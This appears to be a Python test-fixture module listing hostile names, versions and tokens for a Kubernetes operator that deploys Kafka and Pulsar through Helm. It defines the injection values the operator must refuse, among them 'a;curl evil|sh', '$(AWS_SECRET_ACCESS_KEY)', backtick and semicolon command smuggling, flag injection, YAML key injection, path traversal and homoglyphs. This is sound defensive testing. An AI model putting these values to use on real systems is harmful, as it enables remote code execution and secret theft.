"""Hostile names, versions and tokens: texts that end in commands, labels, folders, and values for Helm."""

from collections.abc import Iterator
from typing import Final

from tests.operator.hostile import FAULT, KAFKA, PULSAR, AtApply, Hostile, harmless

INJECTIONS: Final = (
    ("a flag", "--kubeconfig=/tmp/evil", "be read as a flag of helm or of a program"),
    ("a short flag", "-f", "be read as a flag"),
    ("a way up", "../../kube-system", "reach another namespace's objects, or another folder"),
    ("a folder", "a/b", "stand in another place of a path"),
    ("two lines", "a\nhostNetwork: true", "add a key to YAML"),
    ("a line break behind", "a\n", "pass a pattern that ends with $"),
    ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have Kubernetes put a key into a command"),
    ("a shell", "a;curl evil|sh", "be read by a shell"),
    ("a command in quotes", "`id`", "be read by a shell"),
    ("a template", "{{ .Values }}", "be filled in by Helm"),
    ("an end of a text", 'a"}', "close a JSON text"),
    ("a letter of another alphabet", "k\u0430fka", "look like another"),
    ("a wide letter", "\uff4bafka", "look like another"),
    ("an end before the end", "a\u0000b", "be cut off somewhere"),
    ("half a character", "\ud800", "break whoever writes it down"),
)


def injected(what: str, place: str) -> Iterator[Hostile]:
    for kind, text, tries in INJECTIONS:
        at_apply = AtApply.NOT_SENT if text == "\ud800" else AtApply.REFUSED
        yield Hostile(f"{what}: {kind}", tries, ((place, text),), at_apply=at_apply)


NAMES: Final = (
    *injected("an experiment's name", "metadata/name"),
    *injected("a system's name", f"{KAFKA}/name"),
    *injected("a fault's name", f"{FAULT}/name"),
    *injected("a token", "spec/runToken"),
    Hostile("a variant that is a flag", "be read as a flag", (("spec/variants/0/name", "--x"),)),
    Hostile("a variant that climbs", "another folder", (("spec/variants/0/name", "../x"),)),
    Hostile("a name too long for a label", "break every object", (("metadata/name", "x" * 64),)),
    Hostile("a system too long for a container", "break every object", ((f"{KAFKA}/name", "x" * 64),)),
    Hostile("a fault too long for a container", "break a run's pod", ((f"{FAULT}/name", "x" * 60),)),
    Hostile("a token too long for a label", "break the status", (("spec/runToken", "x" * 64),)),
    Hostile("a token that is a number", "be something else in each place", (("spec/runToken", 7),)),
    Hostile("a fault called latency", "be taken for the link's own", ((f"{FAULT}/name", "latency"),)),
    Hostile("two systems of one name", "share a release", ((f"{PULSAR}/name", "kafka"),)),
    Hostile(
        "two faults of one name",
        "share a container",
        (("spec/faults/-", {"name": "cut", "at": {"message": 1}, "moveLeader": {}}),),
    ),
    Hostile(
        "two runs of one name",
        "have one run's history taken for another's",
        (
            *((f"{KAFKA}/name", "a"), (f"{PULSAR}/name", "a-b")),
            *(("spec/variants/0/name", "b-c"), ("spec/variants/1/name", "c")),
        ),
    ),
    harmless(
        "a fault called like a program",
        "take the conductor's place",
        "its container is chaos-conductor",
        (f"{FAULT}/name", "conductor"),
    ),
    harmless(
        "a system called like a part",
        "take another part's name",
        "a name is made from whose part it is and which, and the token is no part",
        *((f"{KAFKA}/name", "report"), (f"{PULSAR}/name", "snapshot"), ("spec/runToken", "readiness")),
    ),
    harmless(
        "an experiment called like ours",
        "take our objects for its own",
        "what it makes is called by its UID, and what belongs to no other is never adopted",
        ("metadata/name", "dedup-operator"),
    ),
    harmless(
        "the longest names",
        "break labels and containers",
        "the bounds leave room for what is put in front",
        *(("metadata/name", "x" * 40), (f"{KAFKA}/name", "y" * 40), ("spec/variants/0/name", "z" * 40)),
        *((f"{FAULT}/name", "f" * 40), ("spec/runToken", "t" * 63)),
    ),
    harmless("a token of odd signs", "break a label", "it is in no name and no label", ("spec/runToken", "A._-")),
)

VERSIONS: Final = (
    *(
        Hostile(f"a version: {what}", tries, ((f"{KAFKA}/kafka", {"version": text}),))
        for what, text, tries in (
            *(("more flags", "4.3.1 --set image.repository=evil", "be read as a flag of helm"),),
            *(("a shell", "4.3.1;id", "be read by a shell"), ("a line more", "4.3.1\nx: y", "add a key to values")),
            *(("a template", "{{ .Files }}", "be filled in by Helm"), ("a variable", "$(X)", "be filled in")),
            *(("another image", "evil.io/kafka:4.3.1", "run another image"), ("a way up", "../4.3.1", "another chart")),
            *(("a digest", "4.3.1@sha256:00", "run another image"), ("the latest", "latest", "run what comes")),
        )
    ),
    Hostile("a version of Pulsar with a flag", "be read as a flag", ((f"{PULSAR}/pulsar", {"version": "--debug"}),)),
    harmless(
        "a version that nobody made",
        "run another image",
        "it is a tag of the administrator's own repository, and the charts know 4.x.y only",
        (f"{KAFKA}/kafka", {"version": "9.9.9-evil"}),
    ),
)

TEXTS: Final = (*NAMES, *VERSIONS)
